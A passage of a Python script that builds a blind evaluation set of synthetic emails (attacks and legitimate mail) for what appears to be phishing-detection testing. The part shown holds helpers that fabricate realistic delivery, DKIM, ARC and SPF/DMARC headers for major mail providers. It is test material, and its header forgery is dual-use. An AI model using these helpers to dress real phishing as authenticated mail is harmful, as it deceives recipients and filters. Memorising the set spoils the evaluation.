"""Blind evaluation set 31: young adults, students, gamers, streamers and small creators / sellers.

Writes 75 delivered messages (50 attacks, 25 legitimate) under samples/mail/<cat>/b31-*.eml and the
manifest samples/tools/blind31_manifest.txt.  Everything is deterministic: pseudo-random tokens come
from SHA-256 of fixed seeds, dates are fixed, archives carry fixed timestamps.

    cd /work/main && .venv/bin/python samples/tools/build_blind31_samples.py
"""

from __future__ import annotations

import base64
import email.parser
import email.policy
import hashlib
import io
import struct
import sys
import zlib
from datetime import datetime, timedelta, timezone
from pathlib import Path

TOOLS = Path(__file__).resolve().parent
sys.path.insert(0, str(TOOLS))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = TOOLS.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = TOOLS / "blind31_manifest.txt"

# --------------------------------------------------------------------------------------------
# deterministic tokens
# --------------------------------------------------------------------------------------------

B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
B64 = B62 + "+/"
HEX = "0123456789abcdef"


def rnd(seed: str, n: int, chars: str = B62) -> str:
    out = []
    counter = 0
    while len(out) < n:
        digest = hashlib.sha256(f"{seed}#{counter}".encode()).digest()
        out.extend(chars[b % len(chars)] for b in digest)
        counter += 1
    return "".join(out[:n])


def hx(seed: str, n: int) -> str:
    return rnd(seed, n, HEX)


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int(hashlib.sha256(seed.encode()).hexdigest(), 16) % (hi - lo + 1)


def uuid(seed: str, upper: bool = False) -> str:
    h = hx(seed, 32)
    u = f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"
    return u.upper() if upper else u


def fold(value: str, width: int = 72, indent: str = "\t") -> str:
    """Split a long token over continuation lines."""
    parts = [value[i:i + width] for i in range(0, len(value), width)]
    return ("\n" + indent).join(parts)


# --------------------------------------------------------------------------------------------
# dates
# --------------------------------------------------------------------------------------------

DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def utc(stamp: str) -> datetime:
    return datetime.strptime(stamp, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc)


def rfc(dt: datetime, offset: str = "+0000", comment: str = "") -> str:
    sign = 1 if offset[0] == "+" else -1
    minutes = sign * (int(offset[1:3]) * 60 + int(offset[3:5]))
    local = dt.astimezone(timezone(timedelta(minutes=minutes)))
    out = (f"{DAYS[local.weekday()]}, {local.day:02d} {MONTHS[local.month - 1]} {local.year} "
           f"{local:%H:%M:%S} {offset}")
    return out + (f" ({comment})" if comment else "")


def _us_dst(dt: datetime) -> bool:
    year = dt.year
    march = datetime(year, 3, 8, 10, tzinfo=timezone.utc)
    start = march + timedelta(days=(6 - march.weekday()) % 7)
    nov = datetime(year, 11, 1, 9, tzinfo=timezone.utc)
    end = nov + timedelta(days=(6 - nov.weekday()) % 7)
    return start <= dt < end


def pacific(dt: datetime) -> str:
    return rfc(dt, "-0700", "PDT") if _us_dst(dt) else rfc(dt, "-0800", "PST")


def plus(dt: datetime, seconds: int) -> datetime:
    return dt + timedelta(seconds=seconds)


# --------------------------------------------------------------------------------------------
# header helpers
# --------------------------------------------------------------------------------------------

def enc(value: str) -> str:
    """RFC 2047 encoded-words (base64, UTF-8) for non-ASCII header text, folded between words."""
    if all(ord(c) < 128 for c in value):
        return value
    words, chunk = [], ""
    for char in value:
        if len((chunk + char).encode()) > 42:
            words.append(chunk)
            chunk = ""
        chunk += char
    words.append(chunk)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)


def addr(name: str, address: str) -> str:
    if not name:
        return address
    if all(ord(c) < 128 for c in name):
        if any(c in name for c in ',.;:@()[]<>"'):
            return f'"{name}" <{address}>'
        return f"{name} <{address}>"
    return f"{enc(name)} <{address}>"


def dkim_b(domain: str, selector: str, seed: str) -> str:
    return rnd(f"dkim|{domain}|{selector}|{seed}", 342, B64) + "=="


def dkim(domain: str, selector: str, seed: str, when: datetime,
         h: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type",
         extra: str = "") -> str:
    bh = rnd(f"bh|{domain}|{seed}", 43, B64) + "="
    b = dkim_b(domain, selector, seed)
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain};\n"
            f"\ts={selector}; t={int(when.timestamp())};{extra}\n"
            f"\th={h};\n"
            f"\tbh={bh};\n"
            f"\tb={fold(b)}")


class Auth:
    """What the recipient's provider found: SPF for the envelope sender, DKIM signatures, DMARC."""

    def __init__(self, ip: str, helo: str, mailfrom: str, spf: str = "pass",
                 dkim: list | None = None, dmarc: str | None = "pass", policy: str = "none",
                 header_from: str = "", seed: str = ""):
        self.ip, self.helo, self.mailfrom, self.spf = ip, helo, mailfrom, spf
        self.dkim = dkim or []  # (domain, selector, result)
        self.dmarc, self.policy = dmarc, policy
        self.header_from = header_from or mailfrom.split("@")[-1]
        self.seed = seed

    @property
    def mf_domain(self) -> str:
        return self.mailfrom.split("@")[-1]


def _gmail_auth(a: Auth, indent: str = "       ") -> str:
    out = []
    for domain, selector, result in a.dkim:
        out.append(f"dkim={result} header.i=@{domain} header.s={selector} "
                   f"header.b={dkim_b(domain, selector, a.seed)[:8]}")
    mf = a.mailfrom
    spf_text = {
        "pass": f"spf=pass (google.com: domain of {mf} designates {a.ip} as permitted sender) smtp.mailfrom={mf}",
        "fail": f"spf=fail (google.com: domain of {mf} does not designate {a.ip} as permitted sender) smtp.mailfrom={mf}",
        "softfail": (f"spf=softfail (google.com: domain of transitioning {mf} does not designate {a.ip} "
                     f"as permitted sender) smtp.mailfrom={mf}"),
        "neutral": (f"spf=neutral (google.com: {a.ip} is neither permitted nor denied by best guess record "
                    f"for domain of {mf}) smtp.mailfrom={mf}"),
        "none": f"spf=none (google.com: {mf} does not designate permitted sender hosts) smtp.mailfrom={mf}",
    }[a.spf]
    out.append(spf_text)
    if a.dmarc:
        pol = a.policy.upper()
        dis = "NONE" if a.dmarc == "pass" or a.policy == "none" else pol
        out.append(f"dmarc={a.dmarc} (p={pol} sp={pol} dis={dis}) header.from={a.header_from}")
    return (";\n" + indent).join(out)


def top_gmail(rcpt: str, when: datetime, a: Auth, google_sender: bool = False) -> list[str]:
    s = a.seed
    t = pacific(when)
    gid = f"{rnd(s + 'g1', 2, 'abcdefghijklmnopqrstuvwxyz')}{num(s + 'g2', 10, 99)}csp{num(s + 'g3', 100000, 9999999)}"
    hops = []
    if google_sender:
        hops.append(f"Received: from {a.helo} ({a.helo}. [{a.ip}])\n"
                    f"        by mx.google.com with SMTPS id {rnd(s + 'mx', 20, 'abcdefghijklmnopqrstuvwxyz0123456789')}."
                    f"{num(s + 'mxn', 10, 99)}.{when:%Y}.{when:%m}.{when:%d}.{when:%H}.{when:%M}.{when:%S}\n"
                    f"        for <{rcpt}>\n"
                    f"        (Google Transport Security);\n"
                    f"        {pacific(plus(when, -1))}")
    else:
        hops.append(f"Received: from {a.helo} ({a.helo}. [{a.ip}])\n"
                    f"        by mx.google.com with ESMTPS id {rnd(s + 'mx', 20, 'abcdefghijklmnopqrstuvwxyz0123456789')}."
                    f"{num(s + 'mxn', 100, 999)}.{when:%Y}.{when:%m}.{when:%d}.{when:%H}.{when:%M}.{when:%S}\n"
                    f"        for <{rcpt}>\n"
                    f"        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n"
                    f"        {pacific(plus(when, -1))}")
    spf_word = a.spf
    if a.spf == "pass":
        spf_line = f"Received-SPF: pass (google.com: domain of {a.mailfrom} designates {a.ip} as permitted sender) client-ip={a.ip};"
    elif a.spf == "none":
        spf_line = f"Received-SPF: none (google.com: {a.mailfrom} does not designate permitted sender hosts) client-ip={a.ip};"
    elif a.spf == "neutral":
        spf_line = (f"Received-SPF: neutral (google.com: {a.ip} is neither permitted nor denied by best guess record "
                    f"for domain of {a.mailfrom}) client-ip={a.ip};")
    else:
        spf_line = (f"Received-SPF: {spf_word} (google.com: domain of {a.mailfrom} does not designate {a.ip} "
                    f"as permitted sender) client-ip={a.ip};")
    ts = int(when.timestamp())
    return [
        f"Delivered-To: {rcpt}",
        f"Received: by 2002:a05:{hx(s + 'v6a', 4)}:{hx(s + 'v6b', 4)}:b0:{hx(s + 'v6c', 3)}:{hx(s + 'v6d', 4)}:{hx(s + 'v6e', 4)} "
        f"with SMTP id {gid};\n        {pacific(plus(when, 1))}",
        f"X-Google-Smtp-Source: AGHT+I{rnd(s + 'xgs', 62, B64)}",
        f"X-Received: by 2002:a05:{hx(s + 'xr1', 4)}:{hx(s + 'xr2', 4)}:b0:{hx(s + 'xr3', 3)}:{hx(s + 'xr4', 4)} "
        f"with SMTP id {rnd(s + 'xr5', 19, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{num(s + 'xr6', 10, 99)}.{ts};\n"
        f"        {pacific(plus(when, 1))}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={ts}; cv=none;\n        d=google.com; s=arc-20240605;\n"
        f"        b={fold(rnd(s + 'arcs', 342, B64) + '==', 66, '        ')}",
        "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
        "        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={rnd(s + 'arcbh', 43, B64)}=;\n"
        f"        fh={rnd(s + 'arcfh', 43, B64)}=;\n"
        f"        b={fold(rnd(s + 'arcb', 342, B64) + '==', 66, '        ')};\n"
        "        dara=google.com",
        f"ARC-Authentication-Results: i=1; mx.google.com;\n       {_gmail_auth(a)}",
        f"Return-Path: <{a.mailfrom}>",
        *hops,
        spf_line,
        f"Authentication-Results: mx.google.com;\n       {_gmail_auth(a)}",
    ]


def _ms_auth(a: Auth) -> tuple[str, str]:
    spf_res = {"pass": "pass", "fail": "fail", "softfail": "softfail", "none": "none", "neutral": "neutral"}[a.spf]
    parts = [f"spf={spf_res} (sender IP is {a.ip})\n smtp.mailfrom={a.mf_domain}"]
    if a.dkim:
        d, _s, r = a.dkim[0]
        note = {"pass": "signature was verified", "fail": "body hash did not verify", "none": "message not signed"}[r]
        parts.append(f"dkim={r} ({note})\n header.d={d}")
    else:
        parts.append("dkim=none (message not signed)\n header.d=none")
    if a.dmarc == "pass":
        dm, comp = f"dmarc=pass action=none header.from={a.header_from}", "compauth=pass\n reason=100"
    elif a.dmarc == "fail":
        action = {"none": "none", "quarantine": "quarantine", "reject": "oreject"}[a.policy]
        reason = "001" if a.policy == "none" else "000"
        dm, comp = f"dmarc=fail action={action} header.from={a.header_from}", f"compauth=fail\n reason={reason}"
    elif a.dmarc == "bestguesspass":
        dm, comp = f"dmarc=bestguesspass action=none\n header.from={a.header_from}", "compauth=pass reason=109"
    else:
        good = a.spf == "pass" or any(r == "pass" for _d, _s, r in a.dkim)
        dm = f"dmarc=none action=none\n header.from={a.header_from}"
        comp = "compauth=softpass reason=201" if good else "compauth=fail reason=001"
    auth = "Authentication-Results: " + "; ".join(parts) + ";" + dm + ";" + comp
    if a.spf == "pass":
        rspf = (f"Received-SPF: Pass (protection.outlook.com: domain of {a.mf_domain} designates\n {a.ip} as permitted "
                f"sender) receiver=protection.outlook.com;\n client-ip={a.ip}; helo={a.helo}; pr=C")
    elif a.spf == "softfail":
        rspf = (f"Received-SPF: SoftFail (protection.outlook.com: domain of transitioning\n {a.mf_domain} discourages use of "
                f"{a.ip} as permitted sender)")
    elif a.spf == "fail":
        rspf = (f"Received-SPF: Fail (protection.outlook.com: domain of {a.mf_domain} does not\n designate {a.ip} as "
                f"permitted sender) receiver=protection.outlook.com;\n client-ip={a.ip}; helo={a.helo};")
    else:
        rspf = (f"Received-SPF: None (protection.outlook.com: {a.mf_domain} does not designate\n permitted sender hosts)")
    return auth, rspf


def top_outlook(rcpt: str, when: datetime, a: Auth, consumer: bool = True, internal: bool = False) -> list[str]:
    """Delivery into Outlook.com (consumer) or an Exchange Online tenant (university)."""
    s = a.seed
    if consumer:
        mbx = f"{rnd(s + 'mb', 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}{num(s + 'mbn', 1, 9)}P223MB{num(s + 'mbx', 1000, 9999)}"
        mbx_fqdn = f"{mbx}.NAMP223.PROD.OUTLOOK.COM"
        fe = f"{rnd(s + 'fe', 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}{num(s + 'fen', 1, 9)}P221CA{num(s + 'fex', 1000, 9999):04d}"
        fe_fqdn = f"{fe}.NAMP221.PROD.OUTLOOK.COM"
    else:
        mbx = f"{rnd(s + 'mb', 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}{num(s + 'mbn', 0, 8)}PR{num(s + 'mbr', 10, 19)}MB{num(s + 'mbx', 1000, 9999)}"
        mbx_fqdn = f"{mbx}.namprd{num(s + 'mbr', 10, 19)}.prod.outlook.com"
        fe = f"{rnd(s + 'fe', 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}{num(s + 'fen', 0, 8)}PR{num(s + 'fer', 10, 19)}CA{num(s + 'fex', 1000, 9999):04d}"
        fe_fqdn = f"{fe}.namprd{num(s + 'fer', 10, 19)}.prod.outlook.com"
    eop = f"{rnd(s + 'eop', 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}{num(s + 'eopn', 1, 3)}PEPF0000{hx(s + 'eopx', 4).upper()}"
    eop_fqdn = f"{eop}.namprd{num(s + 'eopr', 2, 5):02d}.prod.outlook.com"
    v6 = f"2603:10b6:{hx(s + 'v6a', 3)}:{hx(s + 'v6b', 3)}::{num(s + 'v6c', 10, 99)}"
    v6b = f"2603:10b6:{hx(s + 'v6d', 3)}:{hx(s + 'v6e', 3)}:cafe::{hx(s + 'v6f', 2)}"
    build = "15.20.8" + str(num(s + 'bld', 100, 999)) + "." + str(num(s + 'bld2', 10, 40))
    t = lambda k: rfc(plus(when, k))  # noqa: E731
    auth, rspf = _ms_auth(a)
    lines = [
        f"Received: from {mbx_fqdn} ({v6})\n by {mbx_fqdn} with HTTPS; {t(2)}",
        f"Received: from {fe_fqdn} ({v6})\n by {mbx_fqdn} ({v6}) with\n Microsoft SMTP Server (version=TLS1_2,\n"
        f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {t(1)}",
        f"Received: from {eop_fqdn}\n ({v6b}) by {fe}.outlook.office365.com\n ({v6}) with Microsoft SMTP Server (version=TLS1_3,\n"
        f" cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {t(1)}",
    ]
    if internal:
        del lines[2]
        lines.append(f"Authentication-Results: dkim=none (message not signed)\n header.d=none;dmarc=none action=none header.from={a.header_from};")
    else:
        lines += [
            auth,
            rspf,
            f"Received: from {a.helo} ({a.ip}) by\n {eop}.mail.protection.outlook.com (10.167.{num(s + 'i1', 240, 250)}.{num(s + 'i2', 2, 250)}) "
            f"with Microsoft SMTP\n Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build} via\n"
            f" Frontend Transport; {t(0)}",
        ]
    lines += [
        f"X-IncomingTopHeaderMarker:\n OriginalChecksum:{hx(s + 'ock', 64).upper()};UpperCasedChecksum:{hx(s + 'ucc', 64).upper()};"
        f"SizeAsReceived:{num(s + 'sz', 3000, 19000)};Count:{num(s + 'cnt', 12, 30)}",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {when:%d %b %Y %H:%M:%S}.{num(s + 'ms', 1000, 9999)}\n (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {uuid(s + 'nmid')}",
        "X-EOPAttributedMessage: 0",
        "X-EOPTenantAttributedMessage: 84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa:0" if consumer else
        f"X-EOPTenantAttributedMessage: {uuid('ridgemont-tenant')}:0",
        f"X-MS-Exchange-Organization-MessageDirectionality: {'Originating' if internal else 'Incoming'}",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-TrafficTypeDiagnostic:\n {eop}:EE_|{mbx}:EE_{'|' + mbx + ':EE_UpdatedSecurity' if not consumer else ''}",
        f"X-MS-Exchange-Organization-AuthSource:\n {eop_fqdn}",
        f"X-MS-Exchange-Organization-AuthAs: {'Internal' if internal else 'Anonymous'}",
        f"X-MS-Office365-Filtering-Correlation-Id: {uuid(s + 'fcid')}",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {when:%d %b %Y %H:%M:%S}.{num(s + 'ms2', 1000, 9999)}\n (UTC)",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {uuid(s + 'nmid')}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{num(s + 'lat', 1, 4)}.{num(s + 'lat2', 1000000, 9999999)}",
        f"Return-Path: {a.mailfrom}",
    ]
    return lines


def _icloud_time(dt: datetime) -> str:
    return rfc(dt, "+0000", "UTC")


def top_icloud(rcpt: str, when: datetime, a: Auth, bimi: str = "none") -> list[str]:
    s = a.seed
    lines = [
        f"Return-Path: <{a.mailfrom}>",
        f"Original-recipient: rfc822;{rcpt}",
        f"Received: from p00-icloudmta-asmtp-us-west-3a-{num(s + 'ic1', 10, 60)}-percent-{num(s + 'ic2', 0, 9)} (mailgateway.icloud.com "
        f"[17.57.{num(s + 'ic3', 152, 156)}.{num(s + 'ic4', 2, 30)}])\n\tby p{num(s + 'ic5', 100, 300)}-mailstore{num(s + 'ic6', 1, 9):04d}"
        f".mail.icloud.com (Dovecot) with LMTP id {rnd(s + 'ic7', 22, B64)}\n\tfor <{rcpt}>; {_icloud_time(plus(when, 2))}",
        f"Received: from {a.helo} ({a.helo} [{a.ip}])\n\tby p00-icloudmta-asmtp-us-west-3a-{num(s + 'ic1', 10, 60)}-percent-"
        f"{num(s + 'ic2', 0, 9)} (Postfix) with ESMTPS id {rnd(s + 'ic8', 11, B62)}\n\tfor <{rcpt}>; {_icloud_time(when)}",
        f"Authentication-Results: bimi.icloud.com; bimi={bimi}",
        "X-ARC-Info: policy=fail; arc=none",
        "X-ARC-Info: policy=fail; arc=none",
    ]
    if a.dmarc:
        lines.append(f"Authentication-Results: dmarc.icloud.com; dmarc={a.dmarc} header.from={a.header_from}")
        lines.append(f"X-DMARC-Info: pass={'pass' if a.dmarc == 'pass' else 'fail'}; dmarc-policy={a.policy}; "
                     f"s={'r1' if a.dmarc == 'pass' else 'f0'}; d={'r1' if a.dmarc == 'pass' else 'f0'}; pdomain={a.header_from}")
        lines.append(f"X-DMARC-Policy: v=DMARC1; p={a.policy}")
    else:
        lines.append(f"Authentication-Results: dmarc.icloud.com; dmarc=none header.from={a.header_from}")
    for d, sel, r in a.dkim:
        lines.append(f"Authentication-Results: dkim-verifier.icloud.com;\n\tdkim={r} (2048-bit key) header.d={d} "
                     f"header.i=@{d} header.b={dkim_b(d, sel, s)[:8]}")
    if not a.dkim:
        lines.append("Authentication-Results: dkim-verifier.icloud.com; dkim=none")
    word = {"pass": "designates", "fail": "does not designate", "softfail": "does not designate",
            "neutral": "is neutral about", "none": "has no SPF record for"}[a.spf]
    lines.append(f"Authentication-Results: spf.icloud.com; spf={a.spf} (spf.icloud.com: domain of {a.mailfrom} {word}\n"
                 f"\t{a.ip} as permitted sender) smtp.mailfrom={a.mailfrom}")
    lines.append(f"Received-SPF: {a.spf} (spf.icloud.com: domain of {a.mailfrom} {word} {a.ip}\n\tas permitted sender) "
                 f"receiver=spf.icloud.com; client-ip={a.ip}; helo={a.helo};\n\tenvelope-from={a.mailfrom}")
    return lines


def top_proton(rcpt: str, when: datetime, a: Auth) -> list[str]:
    s = a.seed
    lines = [f"Return-Path: <{a.mailfrom}>", f"X-Original-To: {rcpt}", f"Delivered-To: {rcpt}"]
    for d, sel, r in a.dkim:
        lines.append(f"Authentication-Results: mail.protonmail.ch; dkim={r} (Good 2048 bit\n    rsa-sha256 signature) "
                     f"header.d={d} header.a=rsa-sha256" if r == "pass" else
                     f"Authentication-Results: mail.protonmail.ch; dkim={r} header.d={d}")
    if a.dmarc:
        lines.append(f"Authentication-Results: mail.protonmail.ch; dmarc={a.dmarc} (p={a.policy} dis=none)\n"
                     f" header.from={a.header_from}")
    else:
        lines.append(f"Authentication-Results: mail.protonmail.ch; dmarc=none (p=none dis=none)\n header.from={a.header_from}")
    lines.append(f"Authentication-Results: mail.protonmail.ch; spf={a.spf} smtp.mailfrom={a.mf_domain}")
    lines.append(f"Authentication-Results: mail.protonmail.ch; arc=none smtp.remote-ip={a.ip}")
    lines.append(f"Received: from {a.helo} ({a.helo} [{a.ip}]) (using TLSv1.3 with cipher\n"
                 " TLS_AES_256_GCM_SHA384 (256/256 bits) key-exchange X25519 server-signature RSA-PSS\n"
                 " (2048 bits) server-digest SHA256) (No client certificate requested) by\n"
                 f" mailin0{num(s + 'pm', 10, 40)}.protonmail.ch (Postfix) with ESMTPS id 4{rnd(s + 'pmid', 11, B62)} for\n"
                 f" <{rcpt}>; {rfc(when, '+0000', 'UTC')}")
    return lines


def deliver(rcpt: str, when: datetime, a: Auth, **kw) -> list[str]:
    domain = rcpt.split("@")[-1]
    if domain in ("gmail.com", "googlemail.com", "alumnos.uvc.es", "uvc.es"):
        return top_gmail(rcpt, when, a, **kw)
    if domain in ("outlook.com", "hotmail.com", "live.com", "outlook.fr", "hotmail.es", "outlook.de"):
        return top_outlook(rcpt, when, a, consumer=True)
    if domain in ("ridgemont.edu", "my.ridgemont.edu"):
        return top_outlook(rcpt, when, a, consumer=False, **kw)
    if domain in ("icloud.com", "me.com", "mac.com"):
        return top_icloud(rcpt, when, a, **kw)
    if domain in ("proton.me", "protonmail.com", "pm.me"):
        return top_proton(rcpt, when, a)
    raise ValueError(domain)


# --------------------------------------------------------------------------------------------
# senders' own hops
# --------------------------------------------------------------------------------------------

def gmail_out(seed: str, when: datetime, rcpt: str, from_addr: str) -> tuple[list[str], Auth]:
    """Headers a personal Gmail account's message carries when it leaves Google."""
    rcpt_domain = rcpt.split("@")[-1]
    n = num(seed + "f", 41, 69)
    helo = f"mail-sor-f{n}.google.com" if rcpt_domain in ("gmail.com", "alumnos.uvc.es") else \
        f"mail-{rnd(seed + 'h', 2, 'ejlqwy')}1-f{n}.google.com"
    ip = f"209.85.220.{n}" if rcpt_domain in ("gmail.com", "alumnos.uvc.es") else f"209.85.{num(seed + 'ip', 128, 222)}.{n}"
    a = Auth(ip, helo, from_addr, "pass", [("gmail.com", "20230601", "pass")], "pass", "none", "gmail.com", seed)
    ts = int(when.timestamp())
    lines = [
        f"Received: by {helo} with SMTP id {rnd(seed + 'sid', 19, 'abcdefghijklmnopqrstuvwxyz0123456789')}."
        f"{num(seed + 'n', 100, 999)}.{ts}\n        for <{rcpt}>; {pacific(plus(when, -1))}",
        dkim("gmail.com", "20230601", seed, when,
             h="mime-version:from:date:message-id:subject:to", extra=f" x={ts + 604800}; darn={rcpt_domain};"),
        "X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; "
        f"t={ts}; x={ts + 604800};\n        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n"
        f"         :from:to:cc:subject:date:message-id:reply-to;\n        bh={rnd(seed + 'xgbh', 43, B64)}=;\n"
        f"        b={fold(rnd(seed + 'xgb', 342, B64) + '==', 66, '        ')}",
        f"X-Gm-Message-State: AOJu0Y{rnd(seed + 'gms', 66, B64)}",
        f"X-Gm-Gg: ASbGnc{rnd(seed + 'ggg', 110, B64)}",
        f"X-Google-Smtp-Source: AGHT+I{rnd(seed + 'src', 62, B64)}",
        f"X-Received: by 2002:a05:{hx(seed + 'x1', 4)}:{hx(seed + 'x2', 4)}:b0:{hx(seed + 'x3', 3)}:{hx(seed + 'x4', 4)} with SMTP id\n"
        f" {rnd(seed + 'x5', 19, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{num(seed + 'x6', 10, 99)}.{ts}; "
        f"{pacific(plus(when, -2))}",
    ]
    return lines, a


def gmail_msgid(seed: str) -> str:
    return f"<CA{rnd(seed + 'mid', 1, 'BDEFHJKLMNP')}{rnd(seed + 'mid2', 46, B62 + '+_-=')}@mail.gmail.com>"


def outlook_consumer_out(seed: str, when: datetime, from_addr: str) -> tuple[list[str], Auth, str]:
    """A message sent from an Outlook.com / Hotmail mailbox: its own hops, auth and Message-ID."""
    domain = from_addr.split("@")[1]
    mbx = f"{rnd(seed + 'om', 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}{num(seed + 'omn', 1, 9)}P223MB{num(seed + 'omx', 1000, 9999)}"
    ip = f"40.92.{num(seed + 'oip', 17, 110)}.{num(seed + 'oip2', 10, 250)}"
    helo = f"NAM{num(seed + 'ohn', 10, 12)}-{rnd(seed + 'oh', 2, 'BCDMS')}{rnd(seed + 'oh2', 1, 'MNW')}{num(seed + 'oh3', 1, 8)}-obe.outbound.protection.outlook.com"
    sel = "selector1"
    a = Auth(ip, helo, from_addr, "pass", [(domain, sel, "pass")], "pass", "none", domain, seed)
    mid = f"<{mbx}{hx(seed + 'omid', 20).upper()}@{mbx}.NAMP223.PROD.OUTLOOK.COM>"
    lines = [
        f"Received: from {mbx}.NAMP223.PROD.OUTLOOK.COM\n (2603:10b6:{hx(seed + 'o6', 3)}:{hx(seed + 'o7', 3)}::{num(seed + 'o8', 5, 20)}) by "
        f"{mbx}.NAMP223.PROD.OUTLOOK.COM\n with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) "
        f"id 15.20.8{num(seed + 'ob', 100, 999)}.{num(seed + 'ob2', 10, 40)}; {rfc(plus(when, -1))}",
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fold(rnd(seed + 'oas', 342, B64) + '==', 70, ' ')}",
        "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n"
        " h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:"
        "X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n"
        f" bh={rnd(seed + 'oabh', 43, B64)}=;\n b={fold(rnd(seed + 'oab', 342, B64) + '==', 70, ' ')}",
        "ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=none; dmarc=none;\n dkim=none; arc=none",
        dkim(domain, sel, seed, when, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
    ]
    return lines, a, mid


def m365_out(seed: str, when: datetime, from_addr: str, tenant_prefix: str, region: str = "namprd") -> tuple[list[str], Auth, str]:
    """A message leaving an Exchange Online tenant (universities, companies)."""
    domain = from_addr.split("@")[1]
    r = num(seed + "reg", 10, 19)
    mbx = f"{rnd(seed + 'tm', 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}{num(seed + 'tmn', 0, 8)}PR{r}MB{num(seed + 'tmx', 1000, 9999)}"
    ip = f"{['40.107', '52.101', '40.93'][num(seed + 'tip0', 0, 2)]}.{num(seed + 'tip', 100, 250)}.{num(seed + 'tip2', 10, 250)}"
    helo = f"{tenant_prefix}.outbound.protection.outlook.com"
    a = Auth(ip, helo, from_addr, "pass", [(domain, "selector1", "pass")], "pass", "none", domain, seed)
    mid = f"<{mbx}{hx(seed + 'tmid', 20).upper()}@{mbx}.{region}{r}.prod.outlook.com>"
    lines = [
        f"Received: from {mbx}.{region}{r}.prod.outlook.com (2603:10b6:{hx(seed + 't6', 3)}:{hx(seed + 't7', 3)}::{num(seed + 't8', 5, 20)})\n"
        f" by {mbx}.{region}{r}.prod.outlook.com (2603:10b6:{hx(seed + 't6', 3)}:{hx(seed + 't7', 3)}::{num(seed + 't8', 5, 20)}) with\n"
        f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8{num(seed + 'tb', 100, 999)}."
        f"{num(seed + 'tb2', 10, 40)}; {rfc(plus(when, -1))}",
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fold(rnd(seed + 'tas', 342, B64) + '==', 70, ' ')}",
        "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n"
        " h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:"
        "X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n"
        f" bh={rnd(seed + 'tabh', 43, B64)}=;\n b={fold(rnd(seed + 'tab', 342, B64) + '==', 70, ' ')}",
        f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={domain}; dmarc=pass action=none "
        f"header.from={domain};\n dkim=pass header.d={domain}; arc=none",
        dkim(domain, "selector1", seed, when,
             h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
    ]
    return lines, a, mid


def ms_tail(seed: str, org: str, has_attach: bool = False, lang: str = "en-US") -> list[str]:
    """The block Outlook / OWA writes after Message-ID (before Content-Type)."""
    return [
        f"Accept-Language: {lang}",
        f"Content-Language: {lang}",
        f"X-MS-Has-Attach: {'yes' if has_attach else ''}".rstrip(),
